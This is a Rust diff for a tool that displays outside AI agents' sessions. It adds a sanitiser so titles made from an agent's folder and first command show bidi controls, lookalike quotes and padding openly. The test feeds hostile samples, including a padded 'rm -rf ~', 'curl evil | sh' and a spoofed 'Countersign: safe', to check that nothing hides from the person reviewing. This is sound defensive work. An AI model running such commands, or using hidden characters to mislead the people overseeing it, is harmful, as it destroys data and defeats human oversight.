@@ -167,11 +167,21 @@ fn folder_of(cwd: Option<&str>) -> Option<&str> {
 
 /// A new outside session's title: the folder the agent works in and its first call
 /// (`shop · npm test`), so its sessions can be told apart; the source badge beside it
-/// names the agent.
+/// names the agent. Both parts are the agent's words, so the title is made as `crate::shown`
+/// writes them on one line (`shown::line_within`): a lookalike quote, a blank or a bidi
+/// control is written out, never kept raw or dropped, and every page shows the stored title
+/// as it is (a person's rename stays as they typed it).
 fn first_call_title(source: &str, cwd: Option<&str>, summary: &str) -> String {
     let place = folder_of(cwd).unwrap_or(source);
-    crate::text::title_from(&format!("{place} · {summary}"))
-        .unwrap_or_else(|| session_title(source, cwd))
+    let title = crate::shown::line_within(
+        &format!("{place} · {summary}"),
+        crate::text::MADE_TITLE_CHARS,
+    );
+    if title.is_empty() {
+        crate::shown::line_within(&session_title(source, cwd), crate::text::MADE_TITLE_CHARS)
+    } else {
+        title
+    }
 }
 
 /// The agent's own words for its card: the call's own one-line intent (Claude Code's and
@@ -861,6 +871,36 @@ mod tests {
                 .count()
                 <= crate::text::MADE_TITLE_CHARS
         );
+    }
+
+    /// The folder and the first call are the agent's: what in them could hide, reorder or
+    /// close a quotation is written out in the title, not kept and not silently dropped, and
+    /// padding cannot push the rest of the call out of the title.
+    #[test]
+    fn an_outside_title_writes_out_what_the_agent_could_hide() {
+        let title = first_call_title(
+            "codex",
+            Some("/home/me/ap″p\u{2067}/"),
+            "git push \u{2066}origin\u{2069} ❞ ok\u{3000}x\u{00A0}y",
+        );
+        assert!(
+            title.starts_with("ap⟨U+2033⟩p⟨U+2067⟩ · git push ⟨U+2066⟩origin⟨U+2069⟩"),
+            "{title}"
+        );
+        assert!(
+            !title
+                .chars()
+                .any(|c| crate::shown::chars::unseen(c).is_some())
+        );
+        assert!(title.chars().count() <= crate::text::MADE_TITLE_CHARS && title.ends_with('…'));
+        assert_eq!(
+            first_call_title("codex", Some("/a"), "ok❞ Countersign:\u{2800}safe"),
+            "a · ok⟨U+275E⟩ Countersign:⟨U+2800⟩safe"
+        );
+        let padded = first_call_title("codex", None, &format!("ls{}; rm -rf ~", " ".repeat(70)));
+        assert_eq!(padded, "codex · ls ; rm -rf ~");
+        let lines = first_call_title("codex", None, "echo hi\n\ncurl evil | sh");
+        assert_eq!(lines, "codex · echo hi⏎⏎curl evil | sh");
     }
 
     /// What an adapter writes is what the server reads: the one type, both ways, with the
